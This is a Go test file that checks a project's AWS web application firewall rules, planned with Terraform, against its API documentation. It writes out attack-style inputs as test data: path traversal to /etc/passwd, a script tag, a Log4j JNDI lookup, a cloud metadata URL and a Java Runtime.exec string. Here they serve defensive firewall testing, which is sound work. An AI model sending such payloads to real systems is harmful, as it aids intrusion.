package infra_test

import (
	"encoding/json"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	tfjson "github.com/hashicorp/terraform-json"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/clockmirror/clockmirror/src/rehearsal/waf"
	"github.com/clockmirror/clockmirror/tests/testkit"
)

// Requests that the API document allows pass the firewall; attacks are counted, and blocked once managed_rules says so.
func TestFirewall(t *testing.T) {
	t.Parallel()

	app := newStack(t, "app", testkit.Emulator(t, "infra").Environment(os.Environ()), required("app")...)
	app.keepStateInFile(t)
	app.init(t)
	app.createKey(t)

	_, plan := app.plan(t, `waf={enabled=true}`)
	counting := managedGroups(t, plan)
	_, plan = app.plan(t, `waf={enabled=true,managed_rules="block"}`)
	blocking := managedGroups(t, plan)

	for name, request := range documentedRequests(t) {
		t.Run(name+" is let through", func(t *testing.T) {
			t.Parallel()

			for _, groups := range [][]waf.Group{counting, blocking} {
				blocks, _, err := waf.Decide(groups, request)
				require.NoError(t, err)
				assert.Empty(t, blocks)
			}
		})
	}

	agent := http.Header{"User-Agent": {"curl/8"}}

	for name, request := range map[string]waf.Request{
		"a scanner":                   {Method: "GET", Path: "/health", Header: http.Header{"User-Agent": {"nessus"}}},
		"a folder above in the path":  {Method: "GET", Path: "/../etc/passwd", Header: agent},
		"a script in the path":        {Method: "GET", Path: "/%3Cscript%3E", Header: agent},
		"Log4j in a header":           {Method: "GET", Path: "/health", Header: http.Header{"User-Agent": {"${jndi:ldap://a/b}"}}},
		"a path that no API has":      {Method: "GET", Path: "/WEB-INF/web.xml", Header: agent},
		"a method that no API has":    {Method: "PROPFIND", Path: "/", Header: agent},
		"a cookie of more than 10 KB": {Method: "GET", Path: "/", Header: http.Header{"User-Agent": {"curl/8"}, "Cookie": {strings.Repeat("a", 10241)}}},
	} {
		t.Run(name+" is counted at first, then blocked", func(t *testing.T) {
			t.Parallel()

			blocks, counts, err := waf.Decide(counting, request)
			require.NoError(t, err)
			assert.Empty(t, blocks)
			assert.NotEmpty(t, counts)

			blocks, _, err = waf.Decide(blocking, request)
			require.NoError(t, err)
			assert.NotEmpty(t, blocks)
		})
	}
}

// managedGroups are the managed rule groups of the planned web ACL.
func managedGroups(t *testing.T, plan *tfjson.Plan) []waf.Group {
	t.Helper()

	type empty []map[string]any

	var acl struct {
		Rule []struct {
			OverrideAction []struct {
				Count empty `json:"count"`
			} `json:"override_action"`
			Statement []struct {
				Managed []struct {
					Name      string `json:"name"`
					Overrides []struct {
						Name   string `json:"name"`
						Action []struct {
							Count empty `json:"count"`
						} `json:"action_to_use"`
					} `json:"rule_action_override"`
					ScopeDown []struct {
						Not []struct {
							Statement []struct {
								Regex []struct {
									Expression string `json:"regex_string"`
									Field      []struct {
										Path empty `json:"uri_path"`
									} `json:"field_to_match"`
								} `json:"regex_match_statement"`
							} `json:"statement"`
						} `json:"not_statement"`
					} `json:"scope_down_statement"`
				} `json:"managed_rule_group_statement"`
			} `json:"statement"`
		} `json:"rule"`
	}

	content, err := json.Marshal(planned(t, plan, "aws_wafv2_web_acl.this[0]"))
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(content, &acl))

	var groups []waf.Group

	for _, rule := range acl.Rule {
		for _, managed := range rule.Statement[0].Managed {
			group := waf.Group{Name: managed.Name, CountAll: len(rule.OverrideAction[0].Count) > 0}

			for _, override := range managed.Overrides {
				require.Len(t, override.Action[0].Count, 1, "%s is overridden by something else than counting", override.Name)
				group.Count = append(group.Count, override.Name)
			}

			for _, scope := range managed.ScopeDown {
				matched := scope.Not[0].Statement[0].Regex[0]
				require.Len(t, matched.Field[0].Path, 1, "the scope is not about the path")
				group.Except, err = regexp.Compile(matched.Expression)
				require.NoError(t, err)
			}

			groups = append(groups, group)
		}
	}

	require.Len(t, groups, 3)

	return groups
}

// texts are what people may send where the document allows any text, besides the longest.
func texts() map[string]string {
	return map[string]string{
		"a script":        "<script>alert(1)</script>",
		"a path":          "see ../../etc/passwd and boot.ini",
		"a URL":           "http://10.0.0.1/a.php and http://169.254.169.254/latest/meta-data",
		"a Log4j lookup":  "${jndi:ldap://example.com/a}",
		"a piece of Java": "(java.lang.Runtime).getRuntime().exec(\"whoami\")",
	}
}

type parameter struct {
	Name        string `json:"name"`
	In          string `json:"in"`
	Pattern     string `json:"x-pattern"`
	Example     string `json:"example"`
	Description string `json:"description"`
	Schema      struct {
		Ref string `json:"$ref"`
	} `json:"schema"`
}

var limit = regexp.MustCompile(`(?i)at most (\d+) (bytes|KiB)`)

// documentedRequests are requests of each operation of the API document: with each parameter's example, at its limit and with
// texts that look like attacks, and with and without a User-Agent.
func documentedRequests(t *testing.T) map[string]waf.Request {
	t.Helper()

	content, err := os.ReadFile(filepath.Join(testkit.Root(t), "src", "api", "docs", "swagger.json"))
	require.NoError(t, err)

	var document struct {
		Paths map[string]map[string]struct {
			Parameters []parameter `json:"parameters"`
		} `json:"paths"`
	}
	require.NoError(t, json.Unmarshal(content, &document))

	requests := map[string]waf.Request{}

	for path, operations := range document.Paths {
		for method, operation := range operations {
			name := strings.ToUpper(method) + " " + path
			plain := waf.Request{Method: strings.ToUpper(method), Path: path, Header: http.Header{"User-Agent": {"curl/8"}, "Host": {"clock.example.com"}}}
			requests[name] = plain
			requests[name+" without a User-Agent"] = waf.Request{Method: plain.Method, Path: path, Header: http.Header{"Host": {"clock.example.com"}}}

			for _, parameter := range operation.Parameters {
				for what, text := range parameter.values(t) {
					requests[name+", "+parameter.Name+" is "+what] = parameter.in(t, plain, text)
				}
			}
		}
	}

	assert.Contains(t, requests, "POST /shout, text is the longest")
	assert.Contains(t, requests, "GET /api/echo, text is the longest")

	return requests
}

// values are what a parameter may be.
func (p parameter) values(t *testing.T) map[string]string {
	t.Helper()

	if p.Pattern != "" || p.In == "header" {
		return map[string]string{"its example": p.Example}
	}

	found := limit.FindStringSubmatch(p.Description)
	require.NotNil(t, found, "the document does not say how long %s may be: %s", p.Name, p.Description)

	bytes, err := strconv.Atoi(found[1])
	require.NoError(t, err)

	if found[2] == "KiB" {
		const around = 100 // what is around the text in the body

		bytes = bytes<<10 - around
	}

	values := texts()
	values["the longest"] = strings.Repeat("é", bytes/2)

	return values
}

// in is the request with the parameter.
func (p parameter) in(t *testing.T, request waf.Request, text string) waf.Request {
	t.Helper()

	switch p.In {
	case "query":
		request.Query = url.Values{p.Name: {text}}.Encode()
	case "body":
		content, err := json.Marshal(map[string]string{p.Name: text})
		require.NoError(t, err)

		request.Body = strings.ReplaceAll(string(content), `\u003c`, "<")
	case "header":
		request.Header = request.Header.Clone()
		request.Header.Set(p.Name, text)
	default:
		require.Fail(t, "a parameter in "+p.In)
	}

	return request
}
